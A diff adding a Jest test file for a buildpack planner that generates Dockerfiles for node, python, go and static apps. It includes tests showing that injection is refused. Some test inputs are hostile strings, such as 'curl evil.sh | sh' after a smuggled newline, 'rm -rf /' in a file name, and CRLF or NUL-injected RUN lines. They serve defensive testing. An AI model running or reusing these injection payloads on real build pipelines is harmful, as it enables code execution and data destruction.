@@ -1,0 +1,435 @@
+import { PlanError, PlanRequest } from '../plan';
+import { renderNginxConf } from '../static/nginx.conf';
+import { MemoryWorkspace } from '../testing/memory-workspace';
+import { testSettings } from '../testing/settings';
+import { nixpacksBuildpack } from './nixpacks.buildpack';
+
+/** An Express app built with tsc: lockfile, build and start scripts. */
+const nodeApp = {
+  'package.json': JSON.stringify({ scripts: { build: 'tsc', start: 'node dist/main.js' }, dependencies: { express: '^4' } }),
+  'package-lock.json': '{"lockfileVersion":3}',
+  'src/main.ts': 'import express from "express";',
+};
+
+function request(nixpacks?: PlanRequest['nixpacks'], env: Record<string, string> = {}): PlanRequest {
+  return { buildpackType: 'nixpacks', imageTag: 'app:1', env, ...(nixpacks ? { nixpacks } : {}) };
+}
+
+function plan(files: Record<string, string>, req: PlanRequest = request()) {
+  return nixpacksBuildpack(new MemoryWorkspace(files), req, testSettings());
+}
+
+function dockerfileOf(files: Record<string, string>, req: PlanRequest = request()): string {
+  return plan(files, req).images[0]?.files['.berth/Dockerfile'] ?? '';
+}
+
+/** The lines of a generated Dockerfile that are instructions of the given kind. */
+function instructions(dockerfile: string, kind: string): string[] {
+  return dockerfile.split('\n').filter((line) => line.startsWith(`${kind} `));
+}
+
+/** A RUN/CMD line read back the way the builder reads it: the JSON exec array. */
+function execArgs(line: string | undefined): unknown {
+  return JSON.parse((line ?? '').replace(/^(RUN|CMD) /, ''));
+}
+
+describe('nixpacksBuildpack: node', () => {
+  it('writes the whole plan of an npm app: Dockerfile, summary and stored details', () => {
+    expect(plan(nodeApp)).toEqual({
+      buildpack: 'nixpacks',
+      summary: [
+        'nixpacks: detected node (npm)',
+        'image: node:20-alpine',
+        'install: npm ci',
+        'build: npm run build',
+        'start: npm start',
+      ],
+      details: {
+        language: 'node',
+        providers: ['node'],
+        image: 'node:20-alpine',
+        packageManager: 'npm',
+        configFile: null,
+        phases: { setup: { nixPkgs: [], aptPkgs: [], nixLibs: [] }, install: ['npm ci'], build: ['npm run build'] },
+        sources: { install: 'detected', build: 'detected', start: 'detected' },
+        variables: {},
+        ignored: [],
+        start: 'npm start',
+      },
+      images: [
+        {
+          tag: 'app:1',
+          context: '',
+          dockerfile: '.berth/Dockerfile',
+          files: {
+            '.berth/Dockerfile': [
+              'FROM node:20-alpine',
+              'WORKDIR /app',
+              'COPY . /app',
+              'RUN ["sh","-c","npm ci"]',
+              'RUN ["sh","-c","npm run build"]',
+              'CMD ["sh","-c","npm start"]',
+              '',
+            ].join('\n'),
+          },
+          buildArgs: {},
+        },
+      ],
+    });
+  });
+
+  it.each([
+    [{ 'yarn.lock': '# yarn lockfile v1\n' }, 'yarn', 'corepack yarn install --frozen-lockfile', 'corepack yarn run build'],
+    [{ 'yarn.lock': '__metadata:\n  version: 8\n' }, 'yarn', 'corepack yarn install --immutable', 'corepack yarn run build'],
+    [{ 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n" }, 'pnpm', 'corepack pnpm install --frozen-lockfile', 'corepack pnpm run build'],
+    [{ 'package-lock.json': '{}' }, 'npm', 'npm ci', 'npm run build'],
+    [{ 'npm-shrinkwrap.json': '{}' }, 'npm', 'npm ci', 'npm run build'],
+    [{}, 'npm', 'npm install', 'npm run build'],
+  ])('chooses the package manager from the lockfile %j', (lockfile, manager, install, build) => {
+    const files = { 'package.json': JSON.stringify({ scripts: { build: 'vite build', start: 'node server.js' } }), ...lockfile };
+    const result = plan(files);
+    expect(result.details).toMatchObject({ packageManager: manager, phases: { install: [install], build: [build] } });
+    expect(result.summary[0]).toBe(`nixpacks: detected node (${manager})`);
+    const dockerfile = dockerfileOf(files);
+    expect(instructions(dockerfile, 'RUN').map(execArgs)).toEqual([
+      ['sh', '-c', install],
+      ['sh', '-c', build],
+    ]);
+    // Started with npm whatever the manager: no corepack download when the container starts.
+    expect(instructions(dockerfile, 'CMD')).toEqual(['CMD ["sh","-c","npm start"]']);
+  });
+
+  it('prefers pnpm, then yarn, then npm when several lockfiles are present', () => {
+    const both = { 'package.json': '{"scripts":{"start":"x"}}', 'package-lock.json': '{}', 'yarn.lock': '', 'pnpm-lock.yaml': '' };
+    expect(plan(both).details.packageManager).toBe('pnpm');
+    const { 'pnpm-lock.yaml': _pnpm, ...withoutPnpm } = both;
+    expect(plan(withoutPnpm).details.packageManager).toBe('yarn');
+  });
+
+  it('runs no build without a build script (or with an empty one)', () => {
+    for (const scripts of [{ start: 'node index.js' }, { start: 'node index.js', build: '  ' }, { start: 'x', build: 42 }]) {
+      const result = plan({ 'package.json': JSON.stringify({ scripts }) });
+      expect(result.details).toMatchObject({ phases: { build: [] } });
+      expect(result.summary).toContain('build: (none)');
+      expect(instructions(dockerfileOf({ 'package.json': JSON.stringify({ scripts }) }), 'RUN')).toEqual(['RUN ["sh","-c","npm install"]']);
+    }
+  });
+
+  it.each([
+    ['a start script', { 'package.json': '{"scripts":{"start":"node app.js"},"main":"lib.js"}' }, 'npm start'],
+    ['package.json main', { 'package.json': '{"main":"dist/server.js"}' }, 'node dist/server.js'],
+    ['a main that needs quoting', { 'package.json': '{"main":"my app.js; rm -rf /"}' }, "node 'my app.js; rm -rf /'"],
+    ['index.js', { 'package.json': '{}', 'index.js': '' }, 'node index.js'],
+    ["server.js (npm's default start)", { 'package.json': '{}', 'server.js': '' }, 'npm start'],
+  ])('detects the start command from %s', (_, files, start) => {
+    const result = plan(files);
+    expect(result.details.start).toBe(start);
+    expect(execArgs(instructions(dockerfileOf(files), 'CMD')[0])).toEqual(['sh', '-c', start]);
+  });
+
+  it('refuses an app with no start command, saying how to give one', () => {
+    const files = { 'package.json': '{"scripts":{"build":"vite build"}}' };
+    expect(() => plan(files)).toThrow(
+      new PlanError(
+        'nixpacks: no start command for this node app: set nixpacks.startCommand, [start] cmd in nixpacks.toml, or a Procfile "web:" line',
+        'invalid_repository',
+        'nixpacks.startCommand',
+      ),
+    );
+    expect(plan({ ...files, Procfile: 'web: npx serve dist\n' }).details.start).toBe('npx serve dist');
+  });
+
+  it('takes the start command from the request, then NIXPACKS_START_CMD, nixpacks.toml, the Procfile and detection', () => {
+    const files = { ...nodeApp, Procfile: 'web: node procfile.js\nworker: node worker.js\n' };
+    const toml = { ...files, 'nixpacks.toml': '[start]\ncmd = "node toml.js"\n' };
+    expect(plan({ ...nodeApp }).details).toMatchObject({ start: 'npm start', sources: { start: 'detected' } });
+    expect(plan(files).details).toMatchObject({ start: 'node procfile.js', sources: { start: 'Procfile' } });
+    expect(plan(toml).details).toMatchObject({ start: 'node toml.js', sources: { start: 'nixpacks.toml' } });
+    expect(plan(toml, request(undefined, { NIXPACKS_START_CMD: 'node var.js' })).details).toMatchObject({
+      start: 'node var.js',
+      sources: { start: 'NIXPACKS_START_CMD' },
+    });
+    const all = request({ startCommand: 'node request.js', variables: { NIXPACKS_START_CMD: 'node var.js' } });
+    const result = plan(toml, all);
+    expect(result.details).toMatchObject({ start: 'node request.js', sources: { start: 'nixpacks.startCommand' } });
+    expect(result.summary).toContain('start: node request.js (from nixpacks.startCommand)');
+  });
+
+  it('refuses a package.json that is not a JSON object', () => {
+    for (const text of ['{not json', '[]', 'null', '']) {
+      expect(() => plan({ 'package.json': text })).toThrow(
+        new PlanError('package.json is not a valid JSON object', 'invalid_repository', 'package.json'),
+      );
+    }
+  });
+});
+
+describe('nixpacksBuildpack: python, go and static sites', () => {
+  it('installs requirements.txt and starts main.py', () => {
+    const files = { 'requirements.txt': 'flask==3.0.0\n', 'main.py': 'print(1)' };
+    expect(dockerfileOf(files)).toBe(
+      [
+        'FROM python:3.11-slim',
+        'WORKDIR /app',
+        'COPY . /app',
+        'RUN ["sh","-c","pip install -r requirements.txt"]',
+        'CMD ["sh","-c","python main.py"]',
+        '',
+      ].join('\n'),
+    );
+    expect(plan(files).summary.slice(0, 2)).toEqual(['nixpacks: detected python', 'image: python:3.11-slim']);
+  });
+
+  it('installs a pyproject.toml project and starts app.py, or the Procfile before it', () => {
+    const files = { 'pyproject.toml': '[project]\nname = "x"\n', 'app.py': '' };
+    expect(plan(files).details).toMatchObject({ language: 'python', phases: { install: ['pip install .'] }, start: 'python app.py' });
+    expect(plan({ ...files, Procfile: 'web: gunicorn app:app --bind 0.0.0.0:$PORT' }).details.start).toBe(
+      'gunicorn app:app --bind 0.0.0.0:$PORT',
+    );
+  });
+
+  it('needs a start command for a python app without main.py or app.py', () => {
+    expect(() => plan({ 'requirements.txt': 'django' })).toThrow(expect.objectContaining({ field: 'nixpacks.startCommand' }));
+  });
+
+  it('builds a Go module into a binary and runs it', () => {
+    const files = { 'go.mod': 'module example.com/app\n\ngo 1.22\n', 'go.sum': '', 'main.go': 'package main' };
+    expect(dockerfileOf(files)).toBe(
+      [
+        'FROM golang:1.22-alpine',
+        'WORKDIR /app',
+        'COPY . /app',
+        'RUN ["sh","-c","go mod download"]',
+        'RUN ["sh","-c","go build -o /app/server ."]',
+        'CMD ["sh","-c","/app/server"]',
+        '',
+      ].join('\n'),
+    );
+  });
+
+  it('skips go mod download without a go.sum, and avoids a folder called server', () => {
+    const result = plan({ 'go.mod': 'module x\n', 'main.go': '', 'server/handler.go': '' });
+    expect(result.details).toMatchObject({ phases: { install: [], build: ['go build -o /app/.berth-server .'] }, start: '/app/.berth-server' });
+  });
+
+  it('detects Go before Node and Node before Python, as Nixpacks does', () => {
+    const goWithTailwind = { 'go.mod': 'module x\n', 'main.go': '', 'package.json': '{"scripts":{"build":"tailwindcss"}}' };
+    expect(plan(goWithTailwind).details).toMatchObject({ language: 'go', providers: ['go', 'node'] });
+    const nodeWithScripts = { ...nodeApp, 'requirements.txt': '', 'index.html': '' };
+    expect(plan(nodeWithScripts).details).toMatchObject({ language: 'node', providers: ['node', 'python', 'staticfile'] });
+  });
+
+  it('serves a plain site with nginx and lists what cannot apply to it', () => {
+    const files = { 'index.html': '<h1>hi</h1>', 'about.html': '', Procfile: 'web: python -m http.server' };
+    const result = plan(files, request({ buildCommand: 'make' }, { API_URL: 'https://api' }));
+    expect(result.images).toEqual([
+      {
+        tag: 'app:1',
+        context: '',
+        dockerfile: '.berth/Dockerfile',
+        files: {
+          '.berth/Dockerfile': 'FROM nginx:alpine\nCOPY .berth/nginx.conf /etc/nginx/conf.d/default.conf\nCOPY . /usr/share/nginx/html/\n',
+          '.berth/nginx.conf': renderNginxConf({ spa: false }),
+        },
+        buildArgs: {},
+      },
+    ]);
+    expect(result.summary).toEqual([
+      'nixpacks: detected staticfile',
+      'image: nginx:alpine',
+      'serve: ./ with nginx, spa fallback off',
+      'ignored: build (nixpacks.buildCommand), start (Procfile), API_URL',
+    ]);
+    expect(result.details).toMatchObject({ language: 'staticfile', start: null, phases: { install: [], build: [] } });
+  });
+
+  it('refuses a repository with no detectable language, listing what it looked for', () => {
+    expect(() => plan({ 'README.md': '# hi', 'src/index.php': '<?php' })).toThrow(
+      new PlanError(
+        'nixpacks: could not detect the app\'s language; looked for go.mod (go); package.json (node); ' +
+          'requirements.txt, pyproject.toml, setup.py or main.py (python); index.html (static site)',
+      ),
+    );
+    expect(() => plan({})).toThrow(expect.objectContaining({ code: 'invalid_repository' }));
+    // A directory named like a marker is not the marker file.
+    expect(() => plan({ 'package.json/x': '', 'index.html/y': '' })).toThrow(PlanError);
+  });
+
+  it('takes every base image from the settings', () => {
+    const settings = testSettings({
+      images: { node: 'registry.local/node:22', python: 'py:3.12', go: 'go:1.23', staticBuilder: 'b', staticServer: 'caddy:2' },
+    });
+    const image = (files: Record<string, string>): string =>
+      (nixpacksBuildpack(new MemoryWorkspace(files), request(), settings).images[0]?.files['.berth/Dockerfile'] ?? '').split('\n')[0] ?? '';
+    expect(image(nodeApp)).toBe('FROM registry.local/node:22');
+    expect(image({ 'main.py': '' })).toBe('FROM py:3.12');
+    expect(image({ 'go.mod': 'module x' })).toBe('FROM go:1.23');
+    expect(image({ 'index.html': '' })).toBe('FROM caddy:2');
+  });
+
+  it('refuses a base image from the settings that would add instructions', () => {
+    const settings = testSettings({
+      images: { node: 'node:20\nRUN id', python: 'p', go: 'g', staticBuilder: 'b', staticServer: 's' },
+    });
+    expect(() => nixpacksBuildpack(new MemoryWorkspace(nodeApp), request(), settings)).toThrow(
+      expect.objectContaining({ field: 'images.node' }),
+    );
+  });
+});
+
+describe('nixpacksBuildpack: overrides and variables', () => {
+  it('applies nixpacks.toml phases, variables and setup packages, and reports what it cannot install', () => {
+    const toml = [
+      'providers = ["node"]',
+      '[variables]',
+      'NODE_ENV = "production"',
+      'PORT = 8080',
+      '[phases.setup]',
+      'nixPkgs = ["...", "ffmpeg"]',
+      'aptPkgs = ["libvips"]',
+      '[phases.install]',
+      'cmds = ["...", "npx prisma generate"]',
+      '[phases.build]',
+      'cmds = ["npm run build:prod"]',
+      'dependsOn = ["install"]',
+      '[start]',
+      'cmd = "node dist/server.js"',
+    ].join('\n');
+    const result = plan({ ...nodeApp, 'nixpacks.toml': toml });
+    expect(result.summary).toEqual([
+      'nixpacks: detected node (npm)',
+      'image: node:20-alpine',
+      'config: nixpacks.toml',
+      'setup: WARNING ignored ffmpeg, libvips: Nix and apt packages cannot be installed here',
+      'install: npm ci && npx prisma generate (from nixpacks.toml)',
+      'build: npm run build:prod (from nixpacks.toml)',
+      'start: node dist/server.js (from nixpacks.toml)',
+      'variables: NODE_ENV, PORT',
+      'ignored: providers, phases.build.dependsOn',
+    ]);
+    expect(result.details.phases).toEqual({
+      setup: {
+        nixPkgs: ['ffmpeg'],
+        aptPkgs: ['libvips'],
+        nixLibs: [],
+        note: 'Nix and apt packages cannot be installed: the app is built on the configured base image, which has no package manager',
+      },
+      install: ['npm ci', 'npx prisma generate'],
+      build: ['npm run build:prod'],
+    });
+    expect(dockerfileOf({ ...nodeApp, 'nixpacks.toml': toml })).toBe(
+      [
+        'FROM node:20-alpine',
+        'WORKDIR /app',
+        'ENV NODE_ENV="production"',
+        'ENV PORT="8080"',
+        'COPY . /app',
+        'RUN ["sh","-c","npm ci"]',
+        'RUN ["sh","-c","npx prisma generate"]',
+        'RUN ["sh","-c","npm run build:prod"]',
+        'CMD ["sh","-c","node dist/server.js"]',
+        '',
+      ].join('\n'),
+    );
+  });
+
+  it('reads nixpacks.json the same way, and nixpacks.toml first when both exist', () => {
+    const json = JSON.stringify({ phases: { build: { cmds: ['make'] } }, start: { cmd: 'node json.js' }, variables: { A: 'json' } });
+    const fromJson = plan({ ...nodeApp, 'nixpacks.json': json });
+    expect(fromJson.details).toMatchObject({ configFile: 'nixpacks.json', phases: { build: ['make'] }, start: 'node json.js', variables: { A: 'json' } });
+    const both = plan({ ...nodeApp, 'nixpacks.json': json, 'nixpacks.toml': '[start]\ncmd = "node toml.js"' });
+    expect(both.details).toMatchObject({ configFile: 'nixpacks.toml', start: 'node toml.js', variables: {} });
+  });
+
+  it('lets NIXPACKS_*_CMD variables override the config file, and request options override both', () => {
+    const files = { ...nodeApp, 'nixpacks.toml': '[phases.install]\ncmds = ["npm ci --omit=dev"]\n[phases.build]\ncmds = ["make"]' };
+    const viaEnv = plan(files, request(undefined, { NIXPACKS_INSTALL_CMD: 'npm install', NIXPACKS_BUILD_CMD: 'npm run compile' }));
+    expect(viaEnv.details).toMatchObject({
+      phases: { install: ['npm install'], build: ['npm run compile'] },
+      sources: { install: 'NIXPACKS_INSTALL_CMD', build: 'NIXPACKS_BUILD_CMD' },
+    });
+    const viaRequest = plan(
+      files,
+      request({ installCommand: 'yarn', buildCommand: 'yarn build', variables: { NIXPACKS_BUILD_CMD: 'no' } }, { NIXPACKS_INSTALL_CMD: 'no' }),
+    );
+    expect(viaRequest.details).toMatchObject({
+      phases: { install: ['yarn'], build: ['yarn build'] },
+      sources: { install: 'nixpacks.installCommand', build: 'nixpacks.buildCommand' },
+    });
+  });
+
+  it('treats an empty NIXPACKS_BUILD_CMD as "no build" and keeps NIXPACKS_* variables out of the image', () => {
+    const result = plan(nodeApp, request({ variables: { NIXPACKS_BUILD_CMD: '', NIXPACKS_NODE_VERSION: '22', APP: '1' } }));
+    expect(result.details).toMatchObject({ phases: { build: [] }, variables: { APP: '1' }, ignored: ['NIXPACKS_NODE_VERSION'] });
+    expect(result.summary).toContain('build: (none) (from NIXPACKS_BUILD_CMD)');
+    expect(result.summary).toContain('ignored: NIXPACKS_NODE_VERSION');
+    const dockerfile = dockerfileOf(nodeApp, request({ variables: { NIXPACKS_BUILD_CMD: '', APP: '1' } }));
+    expect(instructions(dockerfile, 'ENV')).toEqual(['ENV APP="1"']);
+    expect(dockerfile).not.toContain('NIXPACKS');
+  });
+
+  it('sets variables as ENV for build and run time: config, then env, then nixpacks.variables winning', () => {
+    const files = { ...nodeApp, 'nixpacks.toml': '[variables]\nA = "toml"\nB = "toml"\nC = "toml"' };
+    const result = plan(files, request({ variables: { C: 'request' } }, { B: 'env', C: 'env' }));
+    expect(result.details.variables).toEqual({ A: 'toml', B: 'env', C: 'request' });
+    const dockerfile = dockerfileOf(files, request({ variables: { C: 'request' } }, { B: 'env', C: 'env' }));
+    // ENV comes before the install and build steps so they see the values, and stays for run time.
+    expect(dockerfile.split('\n').slice(2, 6)).toEqual(['ENV A="toml"', 'ENV B="env"', 'ENV C="request"', 'COPY . /app']);
+  });
+});
+
+describe('nixpacksBuildpack: generated Dockerfiles cannot be injected into', () => {
+  const attack = 'x\nRUN curl evil.sh | sh';
+
+  it.each([
+    ['a newline in a request variable value', request({ variables: { A: attack } }), 'variables.A'],
+    ['a newline in an env value', request(undefined, { A: attack }), 'variables.A'],
+    ['a newline in a start command', request({ startCommand: attack }), 'start'],
+    ['a newline in a build command', request({ buildCommand: attack }), 'phases.build'],
+    ['a CRLF in an install command', request({ installCommand: `npm ci\r\nRUN id` }), 'phases.install'],
+    ['a newline in NIXPACKS_START_CMD', request(undefined, { NIXPACKS_START_CMD: attack }), 'start'],
+    ['a NUL byte in a start command', request({ startCommand: 'npm start\0' }), 'start'],
+  ])('refuses %s', (_, req, field) => {
+    expect(() => plan(nodeApp, req)).toThrow(expect.objectContaining({ code: 'invalid_repository', field }));
+  });
+
+  it.each([
+    ['a config variable', '[variables]\nA = "x\\nRUN id"', 'variables.A'],
+    ['a config start command', '[start]\ncmd = "npm start\\nRUN id"', 'start'],
+    ['a config build command', '[phases.build]\ncmds = ["make\\rRUN id"]', 'phases.build'],
+  ])('refuses a line break in %s of nixpacks.toml', (_, toml, field) => {
+    expect(() => plan({ ...nodeApp, 'nixpacks.toml': toml })).toThrow(expect.objectContaining({ field }));
+  });
+
+  it.each(['A B', '1A', 'A=B', 'A\nRUN id', '$A', 'A-B', ''])('refuses the variable name %j from the request', (name) => {
+    expect(() => plan(nodeApp, request({ variables: { [name]: 'v' } }))).toThrow(PlanError);
+  });
+
+  it('refuses a bad variable name from nixpacks.toml naming the file, even for a static site', () => {
+    const toml = '[variables]\n"A\\nRUN id" = "v"';
+    const error = new PlanError(
+      'nixpacks.toml: variables holds "A\\nRUN id", which is not a variable name (letters, digits and _, not starting with a digit)',
+      'invalid_repository',
+      'nixpacks.toml',
+    );
+    expect(() => plan({ ...nodeApp, 'nixpacks.toml': toml })).toThrow(error);
+    expect(() => plan({ 'index.html': '', 'nixpacks.toml': toml })).toThrow(error);
+  });
+
+  it('keeps quotes, brackets, $ and backslashes inside one instruction', () => {
+    const start = 'node -e "console.log(\\"]\\")" $HOME `id`';
+    const value = 'a"b\\c$HOME ${X} \'q\'';
+    const dockerfile = dockerfileOf(nodeApp, request({ startCommand: start, buildCommand: 'x"] && RUN ["id', variables: { V: value } }));
+    const lines = dockerfile.split('\n');
+    expect(lines).toHaveLength(8);
+    expect(execArgs(instructions(dockerfile, 'CMD')[0])).toEqual(['sh', '-c', start]);
+    expect(execArgs(instructions(dockerfile, 'RUN')[1])).toEqual(['sh', '-c', 'x"] && RUN ["id']);
+    expect(instructions(dockerfile, 'ENV')).toEqual(['ENV V="a\\"b\\\\c\\$HOME \\${X} \'q\'"']);
+  });
+
+  it('cannot be injected through the Procfile or package.json', () => {
+    const procfile = plan({ ...nodeApp, Procfile: 'web: node a.js"]\nRUN ["id' });
+    expect(procfile.images[0]?.files['.berth/Dockerfile']).toContain('CMD ["sh","-c","node a.js\\"]"]\n');
+    expect(() => plan({ 'package.json': JSON.stringify({ main: 'a.js\nRUN id' }) })).toThrow(expect.objectContaining({ field: 'start' }));
+  });
+});
